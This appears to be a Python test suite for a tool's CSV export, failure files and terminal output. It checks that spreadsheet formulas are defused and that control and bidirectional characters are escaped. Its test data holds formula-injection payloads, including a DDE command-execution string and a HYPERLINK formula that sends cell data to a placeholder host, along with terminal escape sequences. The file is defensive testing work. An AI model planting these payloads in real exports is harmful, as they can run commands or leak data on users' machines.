"""Tables hold no formulas, whoever called images, classes and columns what; what was written is read as it was."""

from __future__ import annotations

import csv
import io
import json
import re
import unicodedata
from pathlib import Path

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from producer.commands.console import TerminalLines
from producer.input.sources import ReadOptions, open_sources
from producer.jobs.model.formulas import defused, restored
from producer.jobs.model.items import Item
from producer.jobs.model.results import Failure, Result
from producer.jobs.model.spec import JobSpec
from producer.output.export import columns, write_csv, write_rows
from producer.output.failures import write_failures

COMPUTED = '=HYPERLINK("https://a.example/?"&A1,"x")'
#: What a spreadsheet computes, or what a program that splits cells makes such a one of.
FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "=", "-", COMPUTED, "=cmd|' /C calc'!A0",
    " =1", "\u00a0=1", "\u3000=1", "\u200b=1", "\ufeff=1", "\x00=1", "\x1b=1", "   \t -1+1",
    "\t=1", "\r=1", "\n=1", "\tx", "\rx", "\nx",
    "\uff1d1", "\uff0b1", "\uff0d1", "\uff20x", "\ufe661", " \uff1d1",
    "a\n=1", "a\r=1", "a\r\n=1", "a\n \t@x", "a\u2028=1", "a\x85-1", "a\n\n\uff1d1",
    "'=1", "''=1", "'\n=1", "a\n'=1", "-1\n-1", "1-1\n=2",
]  # fmt: skip
NUMBERS = ["-1", "+1", "-0.5", "-1e-7", "+.5", "-1.", "1", "0"]
TEXTS = ["", "cat", "it's", "'quoted'", "a=1", "a - b", "x\ny", "https://a.example/?a=b", "a, =b", "'", "猫", "'cat"]
TRICKY = st.text(st.sampled_from("=+-@\uff1d\uff20'\"\n\r\t \u200b\u2028a1,;\ufeff\x00"), max_size=12)


def is_computed(text: str) -> bool:
    """By other means: whether a line of it begins with a sign, once what is not seen is gone."""
    if re.fullmatch(r"[+-]?(\d+\.?\d*|\.\d+)(e[+-]?\d+)?", text, re.IGNORECASE | re.ASCII):
        return False
    for line in text.splitlines():
        seen = "".join(c for c in line if not c.isspace() and unicodedata.category(c) not in {"Cc", "Cf"})
        if unicodedata.normalize("NFKC", seen)[:1] in {"=", "+", "-", "@"}:
            return True
    return text[:1] in {"\t", "\r", "\n"}


@pytest.mark.parametrize("text", FORMULAS)
def test_no_formula_is_left_and_each_is_read_as_it_was(text: str) -> None:
    assert is_computed(text) or "'" in text
    assert not is_computed(defused(text))
    assert restored(defused(text)) == text


@pytest.mark.parametrize("text", NUMBERS + TEXTS)
def test_numbers_and_other_texts_stay_as_they_are(text: str) -> None:
    assert defused(text) == text
    assert restored(text) == text


@given(TRICKY)
@example("'\r\n =")
def test_whatever_a_text_holds_it_is_no_formula_and_comes_back(text: str) -> None:
    assert not is_computed(defused(text))
    assert restored(defused(text)) == text


def rows_of(file: io.BytesIO) -> list[list[str]]:
    return list(csv.reader(io.StringIO(file.getvalue().decode(), newline="")))


@pytest.mark.parametrize("text", FORMULAS)
def test_neither_cells_nor_headers_of_results_are_formulas(text: str) -> None:
    """What a column is called comes from a stranger's list, as what an image is called does."""
    result = Result(
        index=0, uri="s3://photos/1.jpg", id=text, state="done", class_id=7, class_name=text, label=text,
        predicted=text, score=-1.5, network="resnet50", layer="layer4", flat=False, keep={text: text}, message=text,
    )  # fmt: skip
    file = io.BytesIO()
    assert write_csv([result], columns(JobSpec(outputs=("cam",)), ("cam",), [text], str), file) == 1
    header, row = rows_of(file)
    assert [cell for cell in (*header, *row) if is_computed(cell)] == []
    assert (row[header.index("score")], row[header.index("class_id")]) == ("-1.5", "7")
    assert row.count(defused(text)) == 6


def test_every_cell_and_name_of_rows_goes_one_way() -> None:
    file = io.BytesIO()
    write_rows(["=a", "b"], [["=c", -1], ["-2", None]], file)
    assert file.getvalue() == b"'=a,b\n'=c,-1\n-2,\n"


def failure(index: int, text: str) -> Failure:
    item = Item(uri=f"s3://photos/{index}.jpg", id=text, class_name=text, label=text, keep={text: text})
    return Failure(index=index, item=item, reason="fetch", message=text)


@pytest.mark.parametrize("text", [text for text in FORMULAS if text == text.strip() and text != "-"])
def test_failures_have_no_formulas_and_are_submitted_again_as_they_were(tmp_path: Path, text: str) -> None:
    path = tmp_path / "failed.csv"
    write_failures(lambda: iter([failure(0, text)]), path)
    with path.open(newline="") as file:
        assert [cell for row in csv.reader(file) for cell in row if is_computed(cell)] == []
    reading = ReadOptions(
        uri_column="uri", class_column="class", id_column="id", label_column="label", keep_columns=(text,)
    )
    with open_sources([str(path)], reading) as sources:
        (source,) = sources
    assert (source.id, source.class_name, source.label, source.keep) == (text, text, text, {text: text})


def test_what_a_spreadsheet_keeps_as_text_is_read_as_that_text(tmp_path: Path) -> None:
    path = tmp_path / "list.csv"
    path.write_text("uri,id\ns3://photos/1.jpg,'=1\ns3://photos/2.jpg,'a'\ns3://photos/3.jpg,it's\n")
    with open_sources([str(path)], ReadOptions(id_column="id")) as sources:
        assert [source.id for source in sources] == ["=1", "'a'", "it's"]


def test_a_long_text_of_blanks_and_breaks_takes_no_time() -> None:
    for text in ("\n" * 2**18, "'" * 2**18, " " * 2**18 + "\n", "\n " * 2**17, "=" * 2**18):
        assert restored(defused(text)) == text


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("\x1b]0;owned\x07", r"\u001b]0;owned\u0007"),
        ("photo\u202egpj", r"photo\u202egpj"),
        ("a\u2066b\u2069", r"a\u2066b\u2069"),
        ("c1 \x9b2J", r"c1 \u009b2J"),
        ("two\nlines\r", r"two\nlines\u000d"),
        ("猫 é\ttab", "猫 é\ttab"),
    ],
)
def test_a_terminal_sees_no_control_and_no_bidi_character(text: str, shown: str) -> None:
    screen = io.BytesIO()
    TerminalLines(screen).write(text.encode() + b"\n")
    assert screen.getvalue().decode() == shown + "\n"
    # In lines of JSON they stay what they are.
    screen = io.BytesIO()
    TerminalLines(screen).write(json.dumps(text, ensure_ascii=False).encode() + b"\n")
    assert json.loads(screen.getvalue()) == text
